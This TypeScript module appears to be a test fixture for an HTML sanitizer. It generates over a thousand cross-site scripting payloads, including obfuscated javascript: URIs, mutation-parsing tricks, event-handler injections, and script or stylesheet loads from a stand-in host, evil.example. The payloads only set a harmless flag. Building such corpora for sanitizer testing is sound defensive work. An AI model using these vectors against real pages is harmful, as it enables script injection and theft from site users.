/* Markup that runs a script in a page which trusts it: elements, attributes and spellings, each with each. */

const run = 'window.__ran=1'
const spellings = [
  (word: string) => word,
  (word: string) => word.toUpperCase(),
  (word: string) => [...word].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join(''),
  (word: string) => word.replace(/^./, '$&')
] as const

const events = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbegin', 'onpointerenter']
const elements = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'marquee',
  'object data=x',
  'embed src=x',
  'p tabindex=1 autofocus',
  'b contenteditable autofocus',
  'a href="/x"',
  'table',
  'td',
  'li',
  'span class="text-blue"'
]
const ends = ['>', '/>', ' x=y>a', '\n>b']

/** Addresses that run a script, or load something from elsewhere, where they are not refused. */
export const hostileAddresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript&colon;${run}`,
  `javascript&NewLine;:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  'data:image/svg+xml,<svg onload=1>',
  '//evil.example/x',
  '/\\evil.example/x',
  'https:\\\\evil.example',
  `blob:https://evil.example/${run}`,
  `file:///etc/passwd`
]
const carriers = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<a xlink:href="${address}">x</a>`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<img srcset="${address} 1x">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button>x</button></form>`,
  (address: string) => `<svg><a href="${address}"><text>x</text></a></svg>`,
  (address: string) => `<math href="${address}">x</math>`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<video src="${address}" poster="${address}"></video>`,
  (address: string) => `<p style="background:url(${address})">x</p>`,
  (address: string) => `<table background="${address}"><tr><td>x</td></tr></table>`
]

const others = [
  `<script>${run}</script>`,
  `<script src="//evil.example/x.js"></script>`,
  `<svg><script>${run}</script></svg>`,
  `<style>@import "//evil.example/x.css";*{background:url("javascript:${run}")}</style>`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<xml><a><b>${run}</b></a></xml>`,
  `<b title="'><img src=x onerror=${run}>">x</b>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<img src="x\`onerror=${run}\`">`,
  `<a href="https://example.com/&quot;onclick=${run}">x</a>`,
  `&lt;img src=x onerror=${run}&gt;`
]

/** More than a thousand pieces. */
export const hostileMarkup: readonly string[] = [
  ...others,
  ...hostileAddresses.flatMap((address) => carriers.map((carry) => carry(address))),
  ...elements.flatMap((element) =>
    events.flatMap((event, index) =>
      ends.map((end, at) => `<${(spellings[(index + at) % spellings.length] ?? String)(element)} ${event}=${run}${end}`)
    )
  ),
  ...elements.flatMap((element) => events.map((event) => `<${element}/${event}="${run}"><b>x</b>`))
]
